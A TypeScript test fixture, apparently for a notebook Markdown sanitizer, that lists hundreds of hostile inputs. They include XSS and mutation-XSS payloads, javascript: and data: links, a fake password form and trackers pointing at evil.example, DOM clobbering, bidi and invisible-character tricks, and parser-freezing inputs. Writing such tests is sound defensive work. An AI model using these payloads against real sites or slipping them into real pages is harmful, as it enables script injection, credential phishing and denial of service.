import { hack, prose, type HostileNotebook } from './hostile';

const far = 'https://evil.example';

/** HTML in prose: what runs, what is fetched, what looks like the page itself. */
const html: HostileNotebook[] = [
  prose('a script', `<script>${hack}</script>`),
  prose('a script in pieces', `<scr<script>ipt>${hack}</scr</script>ipt>`),
  prose('a script from elsewhere', `<script src="${far}/x.js"></script>`),
  prose('a script of another type', `<script type="module">${hack}</script>`),
  prose('an image that fails', `<img src=x onerror="${hack}">`),
  prose('an image in mixed case, with a slash for a blank', `<ImG/sRc=x/oNeRrOr=${hack}>`),
  prose('an image from elsewhere', `<img src="${far}/pixel.png">`),
  prose('images of several widths', `<img srcset="${far}/a.png 1x, ${far}/b.png 2x">`),
  prose('a picture with sources', `<picture><source srcset="${far}/a.png"><img></picture>`),
  prose('a drawing that loads', `<svg onload="${hack}"><g/></svg>`),
  prose(
    'a drawing with a foreign object',
    `<svg><foreignObject><iframe srcdoc="<script>parent.hacked=1</script>"></iframe></foreignObject></svg>`,
  ),
  prose(
    'a drawing that uses another',
    `<svg><use href="${far}/x.svg#a"/><use xlink:href="data:image/svg+xml,x#a"/></svg>`,
  ),
  prose(
    'a drawing that animates a link',
    `<svg><a><animate attributeName="href" values="javascript:${hack}"/><text y="20">press</text></a></svg>`,
  ),
  prose('a drawing that sets a handler', `<svg><set attributeName="onmouseover" to="${hack}"/></svg>`),
  prose('a drawing with a script', `<svg><script href="data:text/javascript,${hack}"/></svg>`),
  prose(
    'a formula with a link',
    `<math><maction actiontype="statusline" xlink:href="javascript:${hack}">x</maction></math>`,
  ),
  prose('a frame', `<iframe src="javascript:parent.${hack}"></iframe>`),
  prose('a frame with a document of its own', `<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>`),
  prose(
    'an object and an embedded file',
    `<object data="data:text/html,<script>parent.hacked=1</script>"></object><embed src="${far}/x.swf">`,
  ),
  prose(
    'an applet, a portal, a frame set',
    `<applet code=x></applet><portal src="${far}"></portal><frameset onload=${hack}></frameset>`,
  ),
  prose(
    'a form that asks for a password',
    `<form action="${far}"><input name=password type=password autofocus onfocus=${hack}><button formaction="javascript:${hack}">Log in</button></form>`,
  ),
  prose('a base address', `<base href="${far}/">\n\n[a link](relative)`),
  prose('another page after a second', `<meta http-equiv="refresh" content="0;url=${far}">`),
  prose('another policy', `<meta http-equiv="Content-Security-Policy" content="default-src *">`),
  prose(
    'a style sheet from elsewhere',
    `<link rel="stylesheet" href="${far}/x.css"><link rel="prefetch" href="${far}/y"><link rel=dns-prefetch href=//evil.example>`,
  ),
  prose(
    'styles',
    `<style>body{display:none} @import url(${far}/x.css); p{background:url(${far}/y.png)}</style>\n\nStill here.`,
    'Still here.',
  ),
  prose(
    'a style that covers the page',
    `<div style="position:fixed;inset:0;background:red url(${far}/z.png);z-index:99999">covers</div>`,
  ),
  prose(
    'sound and film',
    `<video src="${far}/x.mp4" autoplay onloadstart=${hack}></video><audio src="${far}/x.mp3" onerror=${hack}></audio>`,
  ),
  prose(
    'a detail that opens, a marquee that starts',
    `<details open ontoggle=${hack}>x</details><marquee onstart=${hack}>y</marquee><dialog open>z</dialog>`,
  ),
  prose(
    'handlers on what is allowed',
    `<p onclick="${hack}" onpointerover="${hack}" autofocus tabindex=1 onfocus="${hack}">p</p><a href="#" onclick="${hack}">a</a>`,
  ),
  prose(
    'names of the document',
    '<a id="document"></a><a id="body" name="cookie"></a><form name="forms"><input name="getElementById"></form><img name="querySelector">',
  ),
  prose(
    'names of the page itself',
    '<p id="content">a</p><p id="queries-from-elsewhere">b</p><span data-key="1" class="frame import">c</span>',
  ),
  prose(
    'a custom element with a shadow',
    '<x-y is="z"><template shadowrootmode="open"><slot onslotchange="window.hacked=1"></slot></template></x-y>',
  ),
  prose(
    'a forged value',
    `<span data-value="x&quot;onclick=&quot;${hack}">x</span><span data-value="__proto__.constructor">y</span>`,
  ),
];

/** Text that becomes something else when it is read a second time. */
const twice: HostileNotebook[] = [
  prose('no script within a title', `<noscript><p title="</noscript><img src=x onerror=${hack}>">`),
  prose(
    'a formula around a table around styles',
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${hack}&gt;">`,
  ),
  prose(
    'a form in a formula',
    `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${hack}>`,
  ),
  prose('a drawing with styles', `<svg></p><style><a id="</style><img src=1 onerror=${hack}>">`),
  prose('a template', `<template><script>${hack}</script><img src=x onerror=${hack}></template>`),
  prose('a text area', `<textarea><img title="</textarea><img src=x onerror=${hack}>"></textarea>`),
  prose('a comment that ends early', `<!--><img src=x onerror=${hack}>-->`),
  prose(
    'a processing instruction and CDATA',
    `<?xml ><img src=x onerror=${hack}>?><svg><![CDATA[><img src=x onerror=${hack}>]]></svg>`,
  ),
  prose('plain text to the end', `<plaintext><xmp><img src=x onerror=${hack}>`),
  prose(
    'an attribute of an annotation',
    `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${hack}></style></annotation-xml></math>`,
  ),
  prose(
    'a code block that closes itself',
    `\`\`\`html"><img src=x onerror=${hack}>\n</code></pre><img src=x onerror=${hack}>\n\`\`\``,
  ),
];

/** Links as Markdown has them. */
const links: HostileNotebook[] = [
  prose('a link that runs', `[press](javascript:${hack})`),
  prose(
    'a link that runs, in mixed case with blanks',
    `[press](<  JaVaScRiPt:${hack}>) [press](java\tscript:${hack}) [press](\u0001javascript:${hack})`,
  ),
  prose(
    'a link that runs, in entities',
    `[press](&#106;avascript&colon;${hack}) <a href="java&#x0a;script:${hack}">press</a> <a href="&#1;javascript:${hack}">press</a>`,
  ),
  prose('a link to data', '[press](data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGFja2VkPTE8L3NjcmlwdD4=)'),
  prose(
    'links of other kinds',
    `[a](vbscript:x) [b](file:///etc/passwd) [c](blob:${far}/x) [d](filesystem:x) [e](view-source:x) [f](intent:x) [g](ms-word:x)`,
  ),
  prose('a link by reference', `[press][x]\n\n[x]: javascript:${hack} "title"`),
  prose('links in angle brackets', `<javascript:${hack}> <data:text/html,x> <${far}/"onclick="${hack}>`),
  prose(
    'an image by Markdown',
    `![a](${far}/x.png "t") ![b](javascript:${hack}) ![c](data:image/svg+xml,<svg/onload=${hack}>) ![d][r]\n\n[r]: ${far}/y.png`,
  ),
  prose(
    'a link in another window, with a ping',
    `<a href="${far}" target="_top" ping="${far}/ping" rel="opener" download>press</a>`,
  ),
  prose(
    'a title that breaks out',
    `[press](#x "\\"onclick=\\"${hack}\\"") [press](#x '"><img src=x onerror=${hack}>')`,
  ),
  prose(
    'a link that shows another address',
    `[https://bank.example](${far}) <a href="${far}">\u202ehttps://bank.example</a>`,
  ),
];

/** Signs that hide, and turn what is around them. */
const signs: HostileNotebook[] = [
  prose(
    'words that turn the line around',
    '# Total \u202e000,1\u202c and \u2066more\n\nwords \u202dnever closed',
    'never closed',
  ),
  prose('signs that can’t be seen', 'a\u200bb\u200cc\u200dd\u2060e\ufefff\u00adg\u180eh\u115f'),
  prose('null bytes', 'before\0after <sc\0ript>window.hacked=1</sc\0ript>'),
  prose('halves of letters', 'a\ud800b\udfffc \ud83d'),
  prose(
    'every control character',
    Array.from({ length: 32 }, (_, code) => `x${String.fromCharCode(code)}y`).join(' '),
  ),
  prose('letters with a thousand marks', `Z${'\u0336\u0489'.repeat(1000)}algo`),
];

/** Long and deep, to freeze the page or end it. */
const size: HostileNotebook[] = [
  prose('ten thousand quotations within each other', '>'.repeat(10_000), 'so it is shown as it is written'),
  prose('ten thousand quotations with blanks', `${'> '.repeat(10_000)}deep`),
  prose('ten thousand lists in one line', `${'- '.repeat(10_000)}deep`),
  prose(
    'a thousand lists, each further in',
    Array.from({ length: 1000 }, (_, depth) => `${'  '.repeat(depth)}- a`).join('\n'),
  ),
  prose('ten thousand open brackets', '['.repeat(10_000)),
  prose('ten thousand images begun', '!['.repeat(10_000)),
  prose('links begun and never ended', '[a]('.repeat(10_000) + '[b](<'.repeat(10_000)),
  prose('ten thousand stars', '*'.repeat(10_000)),
  prose('emphasis within emphasis', '*a **b '.repeat(10_000)),
  prose('emphasis that is never sure', '*a**b_c__d'.repeat(10_000)),
  prose(
    'rows of ticks, each longer',
    Array.from({ length: 1500 }, (_, length) => '`'.repeat(length)).join('a'),
  ),
  prose('a row of tildes that opens nothing', `${'~'.repeat(200_000)}\``),
  prose('a row of ticks that opens nothing', `${'`'.repeat(200_000)} x \``),
  prose(
    'fences within fences, never closed',
    Array.from({ length: 3000 }, (_, length) => '~'.repeat(3 + (length % 500))).join('\n'),
  ),
  prose('twenty thousand elements within each other', '<div>'.repeat(20_000)),
  prose('comments begun and never ended', '<!--'.repeat(20_000)),
  prose(
    'a table of five hundred columns',
    `${'|a'.repeat(500)}|\n${'|-'.repeat(500)}|\n${`${'|x'.repeat(500)}|\n`.repeat(50)}`,
  ),
  prose('ten thousand values that are not there', '{{ a.b '.repeat(10_000) + '{{'.repeat(10_000)),
  prose('ten thousand values', '{{ nothing.here }} '.repeat(10_000)),
  prose('ten thousand headings', '# Heading\n\n'.repeat(10_000)),
  prose('a heading of a million letters', `# ${'a '.repeat(500_000)}`),
  prose('a heading of blanks and signs', `# ${'# '.repeat(200_000)}x`),
  prose('a line of five million letters', 'x'.repeat(5_000_000)),
  prose('five million blanks', `a${' '.repeat(5_000_000)}b`),
  prose('two thousand markers of texts', '<!-- text -->\n'.repeat(2000)),
  prose(
    'an address that might be one',
    `${'a@'.repeat(20_000)} ${'www.'.repeat(20_000)} ${'https://'.repeat(20_000)}`,
  ),
];

export const hostileProse = [...html, ...twice, ...links, ...signs, ...size];
